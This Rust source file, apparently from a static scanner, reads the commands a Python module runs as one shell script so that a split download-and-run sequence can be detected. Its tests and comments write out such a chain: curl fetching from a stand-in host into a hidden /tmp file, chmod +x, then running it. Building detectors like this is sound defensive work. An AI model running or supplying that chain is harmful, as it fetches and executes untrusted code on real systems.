//! Command lines a Python module runs, read the way a shell would: an argument vector of known words
//! as one line, and the lines of every call in the module as one script, so a drop-and-run split over
//! several calls reads as the script it is.

use super::limits::MAX_CALL_BYTES;
use super::values::Value;
use super::Rendition;

/// Command lines a module runs, at most this many, read together.
pub(super) const MAX_SCRIPT_COMMANDS: usize = 64;

/// The command lines a module runs one call at a time (`os.system("curl … -o f")`, then
/// `subprocess.run(["chmod", "+x", f])`, then `os.system(f)`), read as one shell script: each call
/// alone is a download, a mode change or a start, and only together the drop-and-run a shell rule
/// knows. Reported at the last call. `None` for fewer than two commands or past the size bound.
pub(super) fn shell_script(commands: &[(usize, usize, String)]) -> Option<Rendition> {
    if commands.len() < 2 {
        return None;
    }
    let mut code = String::new();
    let mut last = None;
    for (start, end, line) in commands.iter().take(MAX_SCRIPT_COMMANDS) {
        if code.len() + line.len() + 1 > MAX_CALL_BYTES {
            break;
        }
        code.push_str(line);
        code.push('\n');
        last = Some((*start, *end));
    }
    let (start, end) = last?;
    Some(Rendition {
        start,
        end,
        code,
        payload: true,
        hidden_target: None,
        shell: true,
    })
}

/// An argument vector of known strings written as one shell line, words with shell-special characters
/// single-quoted. `None` when a word is not a known string.
pub(super) fn argv_line(words: &[Value]) -> Option<String> {
    let mut line = String::new();
    for word in words {
        let word = word.as_str()?;
        if !line.is_empty() {
            line.push(' ');
        }
        let plain = !word.is_empty()
            && word
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "-_./:=+,@%~".contains(c));
        if plain {
            line.push_str(word);
        } else {
            line.push('\'');
            line.push_str(&word.replace('\'', "'\\''"));
            line.push('\'');
        }
    }
    (!line.is_empty()).then_some(line)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(list: &[&str]) -> Vec<Value> {
        list.iter().filter_map(|w| Value::str(*w)).collect()
    }

    #[test]
    fn argument_vectors_read_as_shell_lines() {
        assert_eq!(
            argv_line(&words(&[
                "curl",
                "-s",
                "https://x.example.invalid/a",
                "-o",
                "/tmp/.a"
            ])),
            Some("curl -s https://x.example.invalid/a -o /tmp/.a".to_string())
        );
        assert_eq!(
            argv_line(&words(&["sh", "-c", "echo 'hi' | cat"])),
            Some("sh -c 'echo '\\''hi'\\'' | cat'".to_string())
        );
        assert_eq!(argv_line(&[Value::Int(1)]), None);
        assert_eq!(argv_line(&[]), None);
    }

    #[test]
    fn several_command_lines_make_one_script_reported_at_the_last() {
        let commands = vec![
            (
                0,
                10,
                "curl -s https://x.example.invalid/a -o /tmp/.a".to_string(),
            ),
            (20, 30, "chmod +x /tmp/.a".to_string()),
            (40, 50, "/tmp/.a".to_string()),
        ];
        let script = shell_script(&commands).unwrap();
        assert_eq!(
            script.code,
            "curl -s https://x.example.invalid/a -o /tmp/.a\nchmod +x /tmp/.a\n/tmp/.a\n"
        );
        assert_eq!((script.start, script.end), (40, 50));
        assert!(script.payload && script.shell);
        // One command is already read on its own.
        assert!(shell_script(&commands[..1]).is_none());
        // A script past the size bound stops at the last line that fits.
        let long = vec![
            (0, 1, "x".repeat(MAX_CALL_BYTES - 1)),
            (2, 3, "y".to_string()),
        ];
        let cut = shell_script(&long).unwrap();
        assert_eq!((cut.start, cut.end), (0, 1));
    }
}
